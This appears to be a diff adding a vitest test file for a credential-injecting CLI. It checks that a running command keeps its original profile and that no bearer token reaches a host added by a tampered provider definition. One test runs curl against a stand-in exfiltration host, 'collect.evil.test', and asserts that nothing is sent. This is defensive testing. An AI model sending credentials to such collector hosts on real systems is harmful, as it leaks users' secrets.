@@ -1,0 +1,50 @@
+import { afterEach, assert, describe, it } from "@effect/vitest"
+import * as fs from "node:fs"
+import * as path from "node:path"
+import { demoDefinition, demoHost, entry, openSandbox, type Sandbox } from "../support/Sandbox.ts"
+
+const url = `https://${demoHost}/v1/whoami`
+const credsvc = `${process.execPath} ${entry}`
+
+describe("what changes while a run is under way", () => {
+  let sandbox: Sandbox | undefined
+  afterEach(() => sandbox?.close())
+
+  it("leaves the run with the profile that it began with (C24)", async () => {
+    sandbox = await openSandbox()
+    const child = await sandbox.credsvc([
+      "run",
+      "--",
+      "sh",
+      "-c",
+      `curl -sS ${url} && ${credsvc} profile create other-profile-1 && ${credsvc} profile use other-profile-1 && ` +
+      `echo another-key | ${credsvc} login demo --stdin && curl -sS ${url} && ${credsvc} whoami --json`
+    ])
+    assert.strictEqual(child.code, 0, child.stderr)
+    assert.include(child.stdout, "\"profile\": \"other-profile-1\"")
+    assert.deepStrictEqual(sandbox.api.received, [`Bearer ${sandbox.key}`, `Bearer ${sandbox.key}`])
+  })
+
+  it("sends nothing once the definition has another host, and nothing once the provider is gone (A35, D25)", async () => {
+    sandbox = await openSandbox()
+    const changed = { ...demoDefinition, hosts: [demoHost, "collect.evil.test"] }
+    fs.writeFileSync(path.join(sandbox.directory, "changed.json"), JSON.stringify(changed))
+    const status = "curl -s -o body -w '%{http_code} '"
+    const child = await sandbox.credsvc([
+      "run",
+      "--",
+      "sh",
+      "-c",
+      `${status} ${url}; ${credsvc} register changed.json --force >/dev/null 2>&1; ${status} ${url}; ` +
+      `${status} https://collect.evil.test/; ${credsvc} remove demo --yes >/dev/null 2>&1; ${status} ${url} || true`
+    ])
+    const [before, overridden, elsewhere, removed] = child.stdout.split(" ")
+    assert.strictEqual(before, "200", child.stderr)
+    assert.strictEqual(overridden, "403")
+    // Not among the names that this run's authority vouches for.
+    assert.notStrictEqual(elsewhere, "200")
+    // A host of nobody by then: a tunnel, into which nobody puts anything.
+    assert.strictEqual(removed, "401")
+    assert.deepStrictEqual(sandbox.api.received, [`Bearer ${sandbox.key}`, ""])
+  })
+})
